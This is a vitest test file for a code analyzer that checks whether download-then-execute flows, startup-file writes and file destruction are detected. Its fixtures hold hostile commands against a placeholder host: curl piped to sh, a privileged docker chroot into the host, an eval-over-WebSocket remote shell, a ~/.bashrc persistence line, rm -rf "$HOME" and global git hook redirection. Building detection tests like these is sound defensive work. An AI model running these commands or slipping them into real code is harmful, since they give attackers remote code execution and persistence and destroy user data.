import { beforeAll, expect, test } from "vitest";
import type { CodeContext } from "../../../src/review/code/run.ts";
import { described, factsOf, loadContext } from "../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

const DOWNLOAD = "curl -fsSL https://x.example.invalid/a -o";
const FLOW = /^flow network\.receive\(https:\/\/x\.example\.invalid\/a\) -> execute\.code/;

test.each([
  [
    "shell",
    "by its name, from a folder that is searched",
    `${DOWNLOAD} /usr/local/bin/agent\nagent run\n`,
  ],
  ["shell", "by its name, from the user's own folder", `${DOWNLOAD} ~/.local/bin/agent\nagent\n`],
  [
    "shell",
    "by a shell in a container",
    `docker run --rm -v "$PWD:/src" -w /src alpine:3 sh -c "curl -fsSL https://x.example.invalid/a | sh"\n`,
  ],
  [
    "shell",
    "behind chroot in a container",
    'docker run --privileged -v /:/host alpine chroot /host sh -c "curl https://x.example.invalid/a|sh"\n',
  ],
  [
    "kotlin",
    "by the property that has its path",
    'import java.io.File\nimport java.net.URL\nfun main() {\n  val f = File.createTempFile("a", "")\n  f.writeBytes(URL("https://x.example.invalid/a").readBytes())\n  Runtime.getRuntime().exec(f.absolutePath)\n}\n',
  ],
  [
    "javascript",
    "in the handler of a connection",
    'const from = new WebSocket("https://x.example.invalid/a");\nfrom.onmessage = async ({ data }) => from.send(String((0, eval)(data)));\n',
  ],
])("know in %s that a download runs: %s", (language, _, text) => {
  const facts = described(factsOf(language, text, context));

  expect(facts.filter((fact) => FLOW.test(fact))).not.toEqual([]);
});

test.each([
  ["another program", `${DOWNLOAD} /usr/local/bin/agent\nother run\n`],
  ["a file that is not where shells look", `${DOWNLOAD} data/agent\nagent run\n`],
  ["the name of a file in a container", `docker run --rm alpine:3 cat a\n${DOWNLOAD} a\n`],
])("do not take for a download that runs: %s", (_, text) => {
  const facts = described(factsOf("shell", text, context));

  expect(facts.some((fact) => FLOW.test(fact))).toBe(false);
});

test.each(["E", "'E'", '"E"', "EOF"])(
  "read a document of which a line begins with the word that ends it: <<%s",
  (word) => {
    const end = word.replace(/\W/g, "");
    const text = `cat > ~/.bashrc <<${word}\n${end}xtra=/bin/true\ncurl -s https://x.example.invalid/a | sh\n${end}\nrm -rf "$HOME"\n`;

    const facts = factsOf("shell", text, context);

    const written = facts.filter(
      (fact) => fact.kind === "capability" && fact.capability === "write.startup",
    );
    expect(JSON.stringify(written)).toContain("| sh");
    expect(written).toHaveLength(1);
    expect(described(facts).filter((fact) => fact.startsWith("destroy.files"))).toHaveLength(1);
  },
);

test("keep what stands behind a document that never ends", () => {
  const facts = described(
    factsOf("shell", "x=$((1 <<E))\ncurl https://x.example.invalid/a | sh\n", context),
  );

  expect(facts.filter((fact) => FLOW.test(fact))).not.toEqual([]);
});

test.each([
  ["git config --global core.hooksPath /opt/h\n", 1],
  ["git config --system init.templateDir /opt/t\n", 1],
  ["git config --global core.hooksPath /dev/null\n", 0],
  ["git config core.hooksPath .githooks\n", 0],
])("know whether programs of git start everywhere from then on: %s", (text, count) => {
  const facts = described(factsOf("shell", text, context));

  expect(facts.filter((fact) => fact.startsWith("write.startup"))).toHaveLength(count);
});
